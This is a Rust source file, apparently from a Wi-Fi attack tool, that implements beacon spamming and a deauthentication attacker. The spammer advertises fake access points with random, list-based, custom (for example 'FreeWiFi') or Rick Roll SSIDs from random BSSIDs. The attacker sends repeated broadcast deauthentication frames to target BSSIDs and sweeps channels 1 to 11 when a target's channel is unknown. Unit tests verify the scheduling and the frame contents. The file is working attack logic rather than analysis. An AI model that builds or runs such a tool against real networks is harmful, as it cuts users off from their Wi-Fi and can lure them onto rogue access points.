use std::time::{Duration, Instant};

use crate::frame::MacAddress;
use crate::tx::{
    build_beacon, build_broadcast_deauth, random_channel, random_ssid, SequenceCounter,
    RANDOM_SSID_LEN, RICKROLL,
};

/// Channels swept for targets whose channel is unknown.
pub const SWEEP_CHANNELS: [u8; 11] = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11];

/// Broadcast deauths are sent this many times per step.
pub const DEAUTH_REPEAT: usize = 3;

/// Frames to send, after switching to `channel` when one is given.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TxBurst {
    pub channel: Option<u8>,
    pub frames: Vec<Vec<u8>>,
    pub repeat: usize,
}

fn due(last: Option<Instant>, interval: Duration, now: Instant) -> bool {
    last.map_or(true, |last| now.duration_since(last) >= interval)
}

//////////////////////////////////////////////////////////////////////////////
// Beacon spam

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BeaconMode {
    Random,
    Rickroll,
    ApList(Vec<String>),
    Custom(String),
}

impl BeaconMode {
    /// `random`, `rickroll` and `aplist` are keywords, anything else is an
    /// SSID to advertise.
    pub fn from_arg(arg: &str) -> BeaconMode {
        match arg.to_ascii_lowercase().as_str() {
            "random" | "-r" => BeaconMode::Random,
            "rickroll" | "-rr" => BeaconMode::Rickroll,
            "aplist" | "-l" => BeaconMode::ApList(Vec::new()),
            _ => BeaconMode::Custom(arg.to_string()),
        }
    }
}

pub struct BeaconSpammer {
    mode: BeaconMode,
    interval: Duration,
    last: Option<Instant>,
    line: usize,
    sequence: SequenceCounter,
    pub sent: u64,
}

impl BeaconSpammer {
    pub fn new(mode: BeaconMode, interval: Duration) -> BeaconSpammer {
        BeaconSpammer {
            mode,
            interval,
            last: None,
            line: 0,
            sequence: SequenceCounter::default(),
            sent: 0,
        }
    }

    pub fn mode(&self) -> &BeaconMode {
        &self.mode
    }

    /// Replaces the SSID list used by [`BeaconMode::ApList`].
    pub fn set_ap_list(&mut self, ssids: Vec<String>) {
        if let BeaconMode::ApList(list) = &mut self.mode {
            *list = ssids;
        }
    }

    /// Beacons for this broadcast period on a fresh random channel, each from
    /// a fresh random BSSID.
    pub fn tick(&mut self, now: Instant) -> Option<TxBurst> {
        if !due(self.last, self.interval, now) {
            return None;
        }
        let ssids: Vec<String> = match &self.mode {
            BeaconMode::Random => vec![random_ssid(RANDOM_SSID_LEN)],
            BeaconMode::Rickroll => {
                let line = RICKROLL[self.line].to_string();
                self.line = (self.line + 1) % RICKROLL.len();
                vec![line]
            }
            BeaconMode::ApList(list) => list.clone(),
            BeaconMode::Custom(ssid) => vec![ssid.clone()],
        };
        if ssids.is_empty() {
            return None;
        }
        self.last = Some(now);

        let channel = random_channel();
        let frames: Vec<Vec<u8>> = ssids
            .iter()
            .map(|ssid| {
                build_beacon(
                    &MacAddress::random(),
                    ssid,
                    channel,
                    self.sequence.next(),
                    false,
                )
            })
            .collect();
        self.sent += frames.len() as u64;
        Some(TxBurst {
            channel: Some(channel),
            frames,
            repeat: 1,
        })
    }
}

//////////////////////////////////////////////////////////////////////////////
// Deauthentication

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeauthTarget {
    pub bssid: MacAddress,
    pub channel: Option<u8>,
}

/// Walks the target list one step per interval. A target with a known channel
/// takes one step; an unknown one is swept across channels 1 to 11.
pub struct DeauthAttacker {
    targets: Vec<DeauthTarget>,
    interval: Duration,
    last: Option<Instant>,
    target_index: usize,
    sweep_index: usize,
    pub sent: u64,
}

impl DeauthAttacker {
    pub fn new(targets: Vec<DeauthTarget>, interval: Duration) -> DeauthAttacker {
        DeauthAttacker {
            targets,
            interval,
            last: None,
            target_index: 0,
            sweep_index: 0,
            sent: 0,
        }
    }

    pub fn targets(&self) -> &[DeauthTarget] {
        &self.targets
    }

    pub fn set_targets(&mut self, targets: Vec<DeauthTarget>) {
        self.targets = targets;
        if self.target_index >= self.targets.len() {
            self.target_index = 0;
            self.sweep_index = 0;
        }
    }

    pub fn tick(&mut self, now: Instant) -> Option<TxBurst> {
        if self.targets.is_empty() || !due(self.last, self.interval, now) {
            return None;
        }
        self.last = Some(now);

        let target = self.targets[self.target_index];
        let channel = match target.channel {
            Some(channel) => {
                self.advance_target();
                channel
            }
            None => {
                let channel = SWEEP_CHANNELS[self.sweep_index];
                self.sweep_index += 1;
                if self.sweep_index >= SWEEP_CHANNELS.len() {
                    self.advance_target();
                }
                channel
            }
        };

        self.sent += DEAUTH_REPEAT as u64;
        Some(TxBurst {
            channel: Some(channel),
            frames: vec![build_broadcast_deauth(&target.bssid)],
            repeat: DEAUTH_REPEAT,
        })
    }

    fn advance_target(&mut self) {
        self.sweep_index = 0;
        self.target_index = (self.target_index + 1) % self.targets.len();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::{Frame, FrameKind};

    fn ssid_of(frame: &[u8]) -> String {
        Frame::parse(frame)
            .unwrap()
            .station_info()
            .unwrap()
            .ssid
            .unwrap()
    }

    #[test]
    fn rickroll_cycles_lyrics() {
        let t0 = Instant::now();
        let interval = Duration::from_millis(500);
        let mut spam = BeaconSpammer::new(BeaconMode::from_arg("rickroll"), interval);
        let first = spam.tick(t0).unwrap();
        assert_eq!(ssid_of(&first.frames[0]), RICKROLL[0]);
        assert!(spam.tick(t0 + Duration::from_millis(100)).is_none());
        let second = spam.tick(t0 + interval).unwrap();
        assert_eq!(ssid_of(&second.frames[0]), RICKROLL[1]);

        let channel = second.channel.unwrap();
        assert!((1..=11).contains(&channel));
        let info = Frame::parse(&second.frames[0]).unwrap().station_info().unwrap();
        assert_eq!(info.channel, Some(channel));
    }

    #[test]
    fn ap_list_sends_one_beacon_per_ssid() {
        let t0 = Instant::now();
        let mut spam = BeaconSpammer::new(BeaconMode::from_arg("aplist"), Duration::ZERO);
        assert!(spam.tick(t0).is_none());
        spam.set_ap_list(vec!["a".into(), "b".into(), "c".into()]);
        let burst = spam.tick(t0).unwrap();
        let ssids: Vec<String> = burst.frames.iter().map(|f| ssid_of(f)).collect();
        assert_eq!(ssids, vec!["a", "b", "c"]);
        let bssids: Vec<MacAddress> = burst
            .frames
            .iter()
            .map(|f| Frame::parse(f).unwrap().header.bssid())
            .collect();
        assert_ne!(bssids[0], bssids[1]);
        assert_eq!(spam.sent, 3);
    }

    #[test]
    fn custom_and_random_modes() {
        let t0 = Instant::now();
        let mut spam = BeaconSpammer::new(BeaconMode::from_arg("FreeWiFi"), Duration::ZERO);
        assert_eq!(spam.mode(), &BeaconMode::Custom("FreeWiFi".into()));
        assert_eq!(ssid_of(&spam.tick(t0).unwrap().frames[0]), "FreeWiFi");

        let mut spam = BeaconSpammer::new(BeaconMode::Random, Duration::ZERO);
        let ssid = ssid_of(&spam.tick(t0).unwrap().frames[0]);
        assert_eq!(ssid.len(), RANDOM_SSID_LEN);
    }

    #[test]
    fn deauth_uses_known_channel_and_sweeps_unknown() {
        let t0 = Instant::now();
        let known = DeauthTarget {
            bssid: MacAddress([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
            channel: Some(6),
        };
        let unknown = DeauthTarget {
            bssid: MacAddress([0x00, 0x11, 0x22, 0x33, 0x44, 0x66]),
            channel: None,
        };
        let mut attacker = DeauthAttacker::new(vec![known, unknown], Duration::ZERO);

        let burst = attacker.tick(t0).unwrap();
        assert_eq!(burst.channel, Some(6));
        assert_eq!(burst.repeat, DEAUTH_REPEAT);
        let frame = Frame::parse(&burst.frames[0]).unwrap();
        assert_eq!(frame.kind, FrameKind::Deauthentication);
        assert_eq!(frame.header.bssid(), known.bssid);
        assert!(frame.header.receiver().is_broadcast());

        let swept: Vec<u8> = (0..11)
            .map(|_| attacker.tick(t0).unwrap().channel.unwrap())
            .collect();
        assert_eq!(swept, SWEEP_CHANNELS.to_vec());

        // Back to the first target.
        assert_eq!(attacker.tick(t0).unwrap().channel, Some(6));
        assert_eq!(attacker.sent, 13 * DEAUTH_REPEAT as u64);
    }

    #[test]
    fn deauth_respects_interval_and_empty_list() {
        let t0 = Instant::now();
        let mut attacker = DeauthAttacker::new(Vec::new(), Duration::from_millis(100));
        assert!(attacker.tick(t0).is_none());
        attacker.set_targets(vec![DeauthTarget {
            bssid: MacAddress([0x00, 0, 0, 0, 0, 1]),
            channel: Some(1),
        }]);
        assert!(attacker.tick(t0).is_some());
        assert!(attacker.tick(t0 + Duration::from_millis(50)).is_none());
        assert!(attacker.tick(t0 + Duration::from_millis(100)).is_some());
    }
}
